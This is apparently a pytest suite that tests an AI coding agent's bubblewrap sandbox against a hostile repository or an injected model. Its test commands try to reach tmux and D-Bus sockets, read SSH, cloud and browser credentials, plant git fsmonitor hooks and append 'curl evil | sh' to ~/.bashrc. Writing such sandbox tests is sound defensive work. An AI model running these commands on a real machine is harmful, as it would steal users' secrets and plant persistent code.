"""The sandbox wall against a hostile repository and an injected model, with the real bubblewrap:
no unix socket of the user's (tmux, the session bus, the runtime dir, /tmp, abstract ones), none
of the user's secrets nor agent-tui's own store, and git metadata that cannot be planted."""

from __future__ import annotations

import contextlib
import os
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path

from agent_tui.tools.sandbox import Sandbox
from tests.support.sandbox import GIT_ENV, bash, make_sandbox

CONNECT = """
import socket, sys
for name in sys.argv[1:]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(name.replace('@', chr(0), 1) if name.startswith('@') else name)
        print('connected', name)
    except OSError as exc:
        print('refused', name, exc)
"""


class UnixServer:
    """A listening unix socket (a path, or `@name` for an abstract one) that counts connections."""

    def __init__(self, name: str | Path) -> None:
        self.name = str(name)
        if not self.name.startswith("@"):
            Path(self.name).parent.mkdir(parents=True, exist_ok=True)
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(self.name.replace("@", "\0", 1) if self.name.startswith("@") else self.name)
        self.sock.listen()
        self.sock.setblocking(False)

    def accepted(self) -> int:
        count = 0
        while True:
            try:
                self.sock.accept()[0].close()
            except BlockingIOError:
                return count
            count += 1

    def close(self) -> None:
        self.sock.close()


def connect_all(names: list[str], script_dir: Path) -> str:
    script = script_dir / "connect.py"
    script.write_text(CONNECT)
    return f"{sys.executable} {script} " + " ".join(names)


class TestUnixSockets:
    async def test_no_socket_in_tmp_the_runtime_dir_the_bus_path_or_the_workspace(
        self, bwrap, ws, tmp_path, monkeypatch
    ):
        """wall: sandbox — a listening socket in /tmp, in $XDG_RUNTIME_DIR, at the path
        $DBUS_SESSION_BUS_ADDRESS names, in the workspace, or abstract, cannot be connected to,
        with or without network."""
        runtime = tmp_path / "run-user"
        servers = [
            UnixServer(tmp_path / "tmux-0" / "default"),
            UnixServer(runtime / "systemd" / "private"),
            UnixServer(tmp_path / "dbus" / "session-bus"),
            UnixServer(ws / "docker.sock"),
            UnixServer(f"@agent-tui-test-{os.getpid()}"),
        ]
        monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
        monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:path={tmp_path / 'dbus' / 'session-bus'}")
        command = connect_all([s.name for s in servers], ws)
        try:
            for network in (False, True):
                out = await bash(make_sandbox(ws, bwrap, network=network), command)
                assert "connected" not in out.text, out.text
                assert out.text.count("refused") == len(servers)
                assert [s.accepted() for s in servers] == [0] * len(servers)
        finally:
            for server in servers:
                server.close()

    async def test_tmux_of_the_user_cannot_run_a_command(self, bwrap, ws, tmp_path, monkeypatch):
        """wall: sandbox — inside tmux, `tmux run-shell` from a sandboxed command does not reach
        the user's tmux server (the finding: it ran `touch` outside the sandbox)."""
        name = f"agent-tui-test-{os.getpid()}"
        subprocess.run(["tmux", "-L", name, "-f", "/dev/null", "new-session", "-d"], check=True)
        try:
            path = subprocess.run(
                ["tmux", "-L", name, "display-message", "-p", "#{socket_path},#{pid},0"],
                capture_output=True,
                text=True,
                check=True,
            ).stdout.strip()
            monkeypatch.setenv("TMUX", path)
            outside = tmp_path / "PWNED"
            out = await bash(make_sandbox(ws, bwrap), f'tmux run-shell "touch {outside}"; echo "[$TMUX]"')
            assert not outside.exists()
            assert "[]" in out.text  # the variable is not handed on either
        finally:
            subprocess.run(["tmux", "-L", name, "kill-server"], check=False)

    async def test_session_variables_are_not_handed_on(self, bwrap, ws, monkeypatch):
        """wall: sandbox — TMUX, STY, DBUS_SESSION_BUS_ADDRESS, SSH_AUTH_SOCK and the like are
        unset inside the sandbox."""
        for name in ("TMUX", "STY", "DBUS_SESSION_BUS_ADDRESS", "SSH_AUTH_SOCK", "KITTY_LISTEN_ON"):
            monkeypatch.setenv(name, f"/somewhere/{name}")
        out = await bash(make_sandbox(ws, bwrap), "env")
        assert "/somewhere/" not in out.text and "PATH=" in out.text

    async def test_a_socket_the_user_allows_is_reachable_and_no_other(self, bwrap, ws, tmp_path, monkeypatch):
        """wall: sandbox — `[sandbox] unix_sockets` opens the listed socket (and keeps the
        variable naming it); a socket elsewhere in the runtime dir and /tmp stays out of reach."""
        runtime = tmp_path / "run-user"
        agent = UnixServer(tmp_path / "ssh" / "agent.sock")
        other = UnixServer(runtime / "bus")
        monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
        monkeypatch.setenv("SSH_AUTH_SOCK", agent.name)
        try:
            sandbox = make_sandbox(ws, bwrap, unix_sockets=["$SSH_AUTH_SOCK"])
            out = await bash(sandbox, connect_all([agent.name, other.name], ws) + '; echo "[$SSH_AUTH_SOCK]"')
            assert f"connected {agent.name}" in out.text and f"refused {other.name}" in out.text
            assert f"[{agent.name}]" in out.text
            assert (agent.accepted(), other.accepted()) == (1, 0)
        finally:
            agent.close()
            other.close()

    async def test_the_refusal_is_explained(self, bwrap, ws):
        """wall: sandbox — a command that fails on a unix socket is told the sandbox did it and
        that only the user can allow one."""
        out = await bash(make_sandbox(ws, bwrap), connect_all(["/nonexistent.sock"], ws) + "; exit 1")
        assert "Address family not supported" in out.text
        assert "[sandbox] unix_sockets" in out.meta["status_line"]

    async def test_internet_sockets_and_socketpairs_still_work(self, bwrap, ws):
        """The filter refuses unix sockets only: a socketpair (asyncio's self-pipe) and a TCP
        server on the sandbox's own loopback work."""
        code = (
            "import asyncio, socket; a, b = socket.socketpair(); a.send(b'x'); print(b.recv(1)); "
            "s = socket.create_server(('127.0.0.1', 0)); socket.create_connection(s.getsockname()); "
            "print('tcp'); asyncio.run(asyncio.sleep(0)); print('asyncio')"
        )
        out = await bash(make_sandbox(ws, bwrap), f'{sys.executable} -c "{code}"')
        assert out.text == "b'x'\ntcp\nasyncio\n", out.text

    async def test_the_kernel_keyring_is_out_of_reach(self, bwrap, ws):
        """wall: sandbox — keyctl (the kernel keyring is not namespaced) fails with EPERM."""
        number = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
        code = (
            "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
            f"r = libc.syscall({number}, 0, -3, 0); print(r, os.strerror(ctypes.get_errno()))"
        )
        out = await bash(make_sandbox(ws, bwrap), f'{sys.executable} -c "{code}"')
        assert out.text == "-1 Operation not permitted\n", out.text


def fake_home(root: Path) -> dict[str, Path]:
    """A home folder with the secrets an attacker would look for, and agent-tui's own store."""
    secrets = {
        "ssh": root / ".ssh" / "id_ed25519",
        "aws": root / ".aws" / "credentials",
        "gcloud": root / ".config" / "gcloud" / "credentials.db",
        "netrc": root / ".netrc",
        "claude": root / ".claude" / ".credentials.json",
        "gh": root / ".config" / "gh" / "hosts.yml",
        "chrome": root / ".config" / "google-chrome" / "Default" / "Login Data",
    }
    for name, path in secrets.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"SECRET-{name}\n")
    return secrets


def fake_store(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.execute("create table outputs (text)")
        db.execute("insert into outputs values ('SECRET-store of project A')")
        db.commit()
    return path


class TestSecrets:
    async def test_secrets_and_the_agents_store_cannot_be_read(self, bwrap, tmp_path, monkeypatch):
        """wall: sandbox — with the workspace in the home folder itself (the hardest case: the
        workspace is bound writable), ~/.ssh/id_ed25519, cloud and browser secrets, other
        agents' tokens and agent-tui's database (default and `[store] db`) read as nothing."""
        home = (tmp_path / "home").resolve()
        secrets = fake_home(home)
        monkeypatch.setenv("HOME", str(home))
        monkeypatch.setenv("AGENT_TUI_HOME", str(home / ".agent-tui-home"))
        from agent_tui.runtime import paths

        stores = [fake_store(paths.default_db_path()), fake_store(home / "elsewhere" / "my.db")]
        for workspace in (home, (tmp_path / "ws").resolve()):
            workspace.mkdir(exist_ok=True)
            sandbox = Sandbox("workspace-write", workspace=workspace, probe=bwrap, db_path=stores[1])
            files = " ".join(f"'{p}'" for p in [*secrets.values(), *stores])
            out = await bash(sandbox, f"cat {files}; grep -ra SECRET {home} | head -3")
            assert "SECRET" not in out.text, out.text
        # Outside the sandbox they are all still there.
        assert all(p.read_text().startswith("SECRET") for p in secrets.values())

    async def test_a_session_cannot_read_its_own_store(self, bwrap, ws, tmp_path):
        """wall: sandbox — end to end: a project's turn stores a tool output in the real
        database (here inside the workspace, `[store] db`), and the next sandboxed command of the
        session cannot read it back from the file (the finding: `grep -a` over the database)."""
        from agent_tui.compose.factory import build_services
        from testkit.fake_openai import FakeOpenAI, Reply
        from tests.support.agent_fixtures import collect, make_config

        replies = iter(
            [
                Reply(tool_calls=[("bash", {"command": "echo SECRET-of-project-A"})]),
                Reply(
                    tool_calls=[("bash", {"command": "grep -aoh SECRET-of-project-A store.db*; ls store.db"})]
                ),
                Reply(text="done"),
            ]
        )
        with FakeOpenAI(window=32_000, responder=lambda body: next(replies)) as srv:
            config = make_config(srv, ws / "store.db", sandbox={"mode": "workspace-write"})
            services = await build_services(config, workspace=ws)
            try:
                session = await services.new_session(yes=True)
                await collect(session.run_turn("go"))
            finally:
                await services.close()
        assert b"SECRET-of-project-A" in (ws / "store.db").read_bytes()
        last = srv.requests[-1]["messages"][-1]["content"]
        assert "SECRET-of-project-A" not in last and "store.db\n" in last, last

    async def test_the_user_may_let_one_in(self, bwrap, ws, tmp_path, monkeypatch):
        """`[sandbox] allow_read` makes a hidden path readable (and only that one)."""
        home = (tmp_path / "home").resolve()
        secrets = fake_home(home)
        monkeypatch.setenv("HOME", str(home))
        sandbox = make_sandbox(ws, bwrap, allow_read=["~/.ssh"])
        out = await bash(sandbox, f"cat {secrets['ssh']} {secrets['aws']}")
        assert "SECRET-ssh" in out.text and "SECRET-aws" not in out.text


def git(*args: str, cwd: Path) -> str:
    return subprocess.run(
        ["git", *args], cwd=cwd, check=True, capture_output=True, text=True, env={**os.environ, **_GIT_ENV}
    ).stdout


_GIT_ENV = dict(pair.split("=") for pair in GIT_ENV.split())


def make_repo(path: Path) -> Path:
    path.mkdir(parents=True)
    git("init", "-q", cwd=path)
    (path / "f.txt").write_text("one\n")
    git("add", "f.txt", cwd=path)
    git("commit", "-q", "-m", "one", cwd=path)
    return path.resolve()


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


class TestGitMetadata:
    async def test_all_of_dot_git_is_read_only(self, bwrap, tmp_path):
        """wall: sandbox — `.git/commondir`, `.git/info/*`, `.git/objects`, HEAD and refs cannot
        be written (a planted commondir leads git to a config with core.fsmonitor)."""
        ws = make_repo(tmp_path / "repo")
        before = snapshot(ws / ".git")
        out = await bash(
            make_sandbox(ws, bwrap),
            "echo ../build/cache > .git/commondir; echo x >> .git/info/exclude; "
            "mkdir -p .git/objects/ab && echo x > .git/objects/ab/cd; echo x > .git/HEAD; "
            "echo x > .git/refs/heads/evil; "
            f"echo two > f.txt; {GIT_ENV} git commit -qam two; git status --short",
        )
        assert snapshot(ws / ".git") == before
        assert out.text.count("Read-only file system") >= 5
        assert " M f.txt" in out.text  # reading works: status still answers

    async def test_a_linked_worktree_and_its_git_dirs(self, bwrap, tmp_path):
        """wall: sandbox — in a linked worktree the `.git` file, the git dir it names and the
        common dir (config, hooks) are all read-only."""
        repo = make_repo(tmp_path / "repo")
        git("worktree", "add", "-q", str(tmp_path / "wt"), cwd=repo)
        ws = (tmp_path / "wt").resolve()
        before, dot_git = snapshot(repo / ".git"), (ws / ".git").read_text()
        out = await bash(
            make_sandbox(ws, bwrap),
            "echo 'gitdir: /tmp/evil' > .git; gd=$(git rev-parse --git-dir); "
            'echo ../evil > "$gd/commondir"; echo x > "$(git rev-parse --git-common-dir)/hooks/pre-commit"; '
            "git config core.fsmonitor 'touch PWNED'; git log --oneline | wc -l",
        )
        assert snapshot(repo / ".git") == before and (ws / ".git").read_text() == dot_git
        assert out.text.strip().endswith("1"), out.text  # git still reads its history

    async def test_hooks_path_and_included_config_in_the_workspace(self, bwrap, tmp_path):
        """wall: sandbox — a `core.hooksPath` folder and an `[include]` file inside the working
        tree are read-only, and a hooks folder it names that is not there yet is removed if made."""
        ws = make_repo(tmp_path / "repo")
        (ws / "shared.gitconfig").write_text("[user]\n\tname = t\n")
        git("config", "include.path", "../shared.gitconfig", cwd=ws)
        git("config", "core.hooksPath", ".githooks", cwd=ws)
        out = await bash(
            make_sandbox(ws, bwrap),
            "mkdir -p .githooks && echo 'touch PWNED' > .githooks/pre-commit; "
            "printf '[core]\\n\\tfsmonitor = touch PWNED\\n' >> shared.gitconfig",
        )
        assert not (ws / ".githooks").exists()
        assert "fsmonitor" not in (ws / "shared.gitconfig").read_text()
        assert "removed .githooks" in out.meta["status_line"]
        (ws / ".githooks").mkdir()
        await bash(make_sandbox(ws, bwrap), "echo 'touch PWNED' > .githooks/pre-commit")
        assert list((ws / ".githooks").iterdir()) == []

    async def test_git_init_in_a_folder_that_is_no_repository_is_undone(self, bwrap, tmp_path):
        """wall: sandbox — `git init` + `git config core.fsmonitor` + a hook in a folder that is
        not a repository yet leave nothing behind, and the result says so."""
        ws = (tmp_path / "plain").resolve()
        ws.mkdir()
        out = await bash(
            make_sandbox(ws, bwrap),
            "git init -q && git config core.fsmonitor 'touch PWNED' && "
            "printf '#!/bin/sh\\ntouch PWNED\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit "
            "&& echo planted",
        )
        assert "planted" in out.text
        assert not (ws / ".git").exists()
        assert "removed .git" in out.meta["status_line"]


class TestEnvironment:
    async def test_secrets_in_values_and_less_obvious_names_are_withheld(self, bwrap, ws, monkeypatch):
        """wall: sandbox (environment) — a password inside a URL (`DATABASE_URL`,
        `https_proxy`), a DSN, an `_AUTH` or `_PAT` variable are withheld like `*TOKEN*`;
        `GIT_AUTHOR_NAME` and plain URLs are not."""
        withheld = {
            "DATABASE_URL": "postgres://app:hunter2@db.internal/app",
            "HTTPS_PROXY": "http://me:s3cret@proxy:3128",
            "SENTRY_DSN": "https://abc123@o1.ingest.sentry.io/1",
            "NPM_CONFIG__AUTH": "dXNlcjpwYXNz",
            "GITHUB_PAT": "github_pat_x",
        }
        kept = {"GIT_AUTHOR_NAME": "t", "DOCS_URL": "https://example.com/docs", "MY_SETTING": "plain"}
        for name, value in {**withheld, **kept}.items():
            monkeypatch.setenv(name, value)
        out = await bash(make_sandbox(ws, bwrap), "env")
        for name in withheld:
            assert f"{name}=" not in out.text
        for name, value in kept.items():
            assert f"{name}={value}" in out.text


class TestPersistence:
    async def test_a_workspace_that_is_the_home_folder_keeps_startup_files(
        self, bwrap, tmp_path, monkeypatch
    ):
        """wall: sandbox — with the home folder as workspace, shell startup files and ~/.local/bin
        stay read-only, one created is removed, and ~/.gitconfig cannot gain a core.fsmonitor."""
        home = (tmp_path / "home").resolve()
        (home / ".local" / "bin").mkdir(parents=True)
        (home / ".bashrc").write_text("# mine\n")
        (home / ".gitconfig").write_text("[user]\n\tname = t\n")
        monkeypatch.setenv("HOME", str(home))
        out = await bash(
            make_sandbox(home, bwrap),
            "echo 'curl evil | sh' >> ~/.bashrc; echo evil > ~/.zshrc; echo evil > ~/.local/bin/ls; "
            "git config --global core.fsmonitor 'touch PWNED'; echo notes > notes.txt",
        )
        assert (home / ".bashrc").read_text() == "# mine\n"
        assert not (home / ".zshrc").exists() and not (home / ".local/bin/ls").exists()
        assert "fsmonitor" not in (home / ".gitconfig").read_text()
        assert (home / "notes.txt").read_text() == "notes\n"  # the rest of the workspace is writable
        assert "removed .zshrc" in out.meta["status_line"]

    async def test_repositories_one_level_down_in_a_plain_folder(self, bwrap, tmp_path):
        """wall: sandbox — a workspace holding several repositories keeps each one's `.git`
        read-only."""
        ws = (tmp_path / "projects").resolve()
        repo = make_repo(ws / "app")
        before = snapshot(repo / ".git")
        await bash(make_sandbox(ws, bwrap), "echo '[core] fsmonitor = touch PWNED' >> app/.git/config")
        assert snapshot(repo / ".git") == before
